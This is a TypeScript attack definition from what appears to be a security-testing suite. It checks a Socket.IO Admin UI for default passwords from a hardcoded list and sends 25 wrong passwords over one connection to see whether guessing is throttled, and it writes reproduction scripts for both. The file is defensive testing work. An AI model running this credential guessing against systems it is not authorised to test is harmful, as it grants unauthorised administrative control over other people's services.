import { defineAttack } from '../../attack.ts'
import { inconclusive, resisted, vulnerable } from '../../judge.ts'
import { adminNamespaces, enterAdminUi, guessAdmin } from '../../kit/admin-ui.ts'
import { control, openWitness } from '../../kit/attempt.ts'

/** The user of the documentation's examples, and what stands beside it there and elsewhere. */
const passwords = ['admin', 'changeit', 'password', '123456', 'changeme', 'secret', 'socketio', 'admin123']
/** More wrong passwords on one connection than anybody mistypes. */
const wrong = 25

export default defineAttack({
  id: 'nsp/admin-ui-bruteforce',
  rows: ['nsp.admin-ui.bruteforce', 'nsp.admin-ui.default-creds'],
  title: 'The Socket.IO Admin UI with passwords of the documentation, and with many wrong ones over one connection',
  requirement: 'ASVS V6.3.2 and V6.3.1: no default accounts, and guessing is held up',
  impact: 'Whoever has the password sees every connection, disconnects users and joins them to rooms.',
  remedy: 'Set a long random password from the environment, count failed CONNECTs, and keep it behind a proxy.',
  severity: 'high',
  cwe: ['CWE-1392', 'CWE-307'],
  references: ['ASVS V6.3.2', 'ASVS V6.3.1'],
  provenBy: 'admin-ui-weak',
  needs: [],
  effect: 'write',
  holds: 'address',
  async run(context) {
    let open = false
    for (const namespace of adminNamespaces) {
      const answer = await enterAdminUi(context, namespace, {})
      if (typeof answer !== 'string' && answer.length > 0)
        return inconclusive('superseded by nsp/admin-ui-exposed: it asks for no password', context.evidence)
      for (const password of passwords) {
        const told = await enterAdminUi(context, namespace, { username: 'admin', password })
        // A namespace that is not there, or asks for something else, says the same to every password.
        if (told === answer && typeof told === 'string' && !told.includes('credentials')) break
        if (typeof told === 'string' || told.length === 0) continue
        context.note('received', `${namespace} as admin with "${password}": let in, and told ${told.join(', ')}`)
        if (!open) {
          const door = { namespace, auth: { username: 'admin', password }, join: false }
          context.recording.written((say) => knownScript(say.door(door)))
        }
        open = true
        break
      }
      const { judged, open: stays } = await guessAdmin(
        context,
        namespace,
        Array.from({ length: wrong }, () => context.canary()),
      )
      const connection = stays ? 'the connection stays open' : 'the connection was ended'
      context.note('measured', `${namespace}: ${judged} of ${wrong} wrong passwords were judged, ${connection}`)
      if (!open && judged >= wrong && stays)
        context.recording.written(({ value, door }) => guessScript(value(namespace), door({ join: false })))
      open ||= judged >= wrong && stays
    }
    const last = await control(context, 'an honest client', await openWitness(context))
    return open ? vulnerable(context.evidence) : resisted(last.observation, context.evidence)
  },
})

function knownScript(door: string): string {
  return `const c0 = await connect(${door}, true)
await until(() => c0.received.some((event) => /^\\["(session|config|server_stats|all_sockets)"/.test(event)), 'it tells nothing')`
}

function guessScript(namespace: string, door: string): string {
  return `const { manager } = await handshake(${door})
let judged = 0
manager.engine.on('data', (packet) => (judged += String(packet).includes('"invalid credentials"')))
for (let n = 1; n <= ${wrong}; n++) {
  manager.engine.send('0' + ${namespace} + ',' + JSON.stringify({ username: 'admin', password: 'wrong-' + n }))
  await until(() => judged === n, \`password \${n} is not judged\`)
}
expect(manager.engine.readyState === 'open', 'the connection is ended')`
}
